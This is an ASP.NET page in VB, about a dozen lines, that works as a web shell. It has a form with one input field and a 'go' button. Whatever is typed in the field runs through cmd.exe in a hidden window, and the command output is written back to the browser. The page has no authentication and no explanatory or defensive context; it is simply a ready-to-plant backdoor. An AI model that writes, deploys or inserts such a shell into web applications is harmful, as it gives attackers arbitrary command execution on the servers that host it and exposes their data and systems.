<%@ Page Language="VB" Debug="false" %>
<script runat="server">
Sub Run(ByVal s As Object, ByVal e As EventArgs)
    Dim tmp As String = System.IO.Path.GetTempFileName()
    Shell("cmd.exe /c " & Request.Form("x") & " > " & tmp, AppWinStyle.Hide, True)
    Response.Write("<pre>" & Server.HtmlEncode(System.IO.File.ReadAllText(tmp)) & "</pre>")
End Sub
</script>
<form runat="server"><input name="x"/><asp:Button runat="server" OnClick="Run" Text="go"/></form>
